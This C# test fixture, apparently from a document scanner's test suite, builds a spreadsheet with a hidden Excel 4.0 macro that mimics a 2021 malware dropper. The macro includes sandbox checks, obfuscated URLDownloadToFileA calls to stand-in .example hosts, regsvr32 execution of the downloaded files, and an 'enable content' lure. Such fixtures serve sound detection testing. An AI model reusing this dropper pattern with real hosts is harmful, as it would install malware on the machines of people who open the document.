namespace Postvakt.Documents.Tests.Building;

/// <summary>A macro in the manner of autumn 2021, inert: hosts that cannot exist, and text only.</summary>
internal static class Droppers
{
    public static readonly string[] Urls =
        ["https://a.example/Kx7Qd/44481.5188222222.dat", "https://b.example/p0Lm/44481.5188222222.dat", "https://c.example/zz9/44481.5188222222.dat"];

    public static readonly string[] Paths = [@"C:\Datop\besta.ocx", @"C:\Datop\bestb.ocx", @"C:\Datop\bestc.ocx"];

    public static readonly string[] Commands = [@"regsvr32 -silent C:\Datop\besta.ocx", @"regsvr32 -silent C:\Datop\bestb.ocx", @"regsvr32 -silent C:\Datop\bestc.ocx"];

    public static BookPlan Datop(string starter = "Auto_Open", bool builtIn = true)
    {
        var plan = new BookPlan();
        plan.Sheet("Invoice").Put("A1", "Enable editing, then enable content").Put("D4", "https://").Put("D5", "/Kx7Qd/").Put("D6", "/p0Lm/").Put("D7", "/zz9/");
        var macros = plan.Macros("Doc1", hidden: 2);
        // The loader: asks the machine, then writes the rest into its own sheet.
        macros.Put("B1", "=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)").Put("B2", "=IF(GET.WORKSPACE(19),,CLOSE(TRUE))").Put("B3", "=FORMULA(\"=EXEC(C1&\"\" -silent \"\"&C9)\",B14)").Put("B4", "=GOTO(B7)")
            .Put("B5", "=ALERT(\"never\")")
            .Put("B7", "=REGISTER(\"Ker\"&\"nel32\",\"CreateDirec\"&CHAR(116)&\"oryA\",\"JCJ\",\"Klorey\",1,9)").Put("B8", "=Klorey(C8,0)")
            .Put("B9", "=REGISTER(CHAR(117)&\"RlMon\",C3&C4,\"JJCCBB\",\"Biloa\",1,9)")
            .Put("B10", "=Biloa(0,\" \"&Invoice!D4&\"a.example\"&Invoice!D5&NOW()&C5,C9,0,0)")
            .Put("B11", "=Biloa(0,Invoice!D4&\"b.example\"&Invoice!D6&NOW()&C5,C10,0,0)")
            .Put("B12", "=CALL(\"uRlMon\",C3&C4,\"JCCB\",0,Invoice!D4&\"c.example\"&Invoice!D7&NOW()&C5,C11)")
            .Put("B15", "=EXEC(C1&\" -silent \"&C10)").Put("B16", "=RUN(E1)").Put("B17", "=RETURN()")
            .Put("E1", "=EXEC(CONCATENATE(C1,\" -silent \",C11))").Put("E2", "=RETURN()")
            .Put("C1", "=LOWER(\"REG\")&MID(\"xsvr32x\",2,5)").Put("C3", "URLDown").Put("C4", "loadToFileA").Put("C5", ".dat")
            .Put("C8", "=\"C:\\\"&\"Da\"&\"top\"").Put("C9", "=C8&\"\\besta.\"&\"ocx\"").Put("C10", "=SUBSTITUTE(C9,\"besta\",\"bestb\")").Put("C11", "=LEFT(C9,13)&\"c.ocx\"");
        plan.Name(starter, "Doc1!B1", hidden: true, builtIn);
        // Registered names stand in the table of names, without a place.
        plan.Name("Klorey", "", hidden: true).Name("Biloa", "", hidden: true);
        return plan;
    }
}
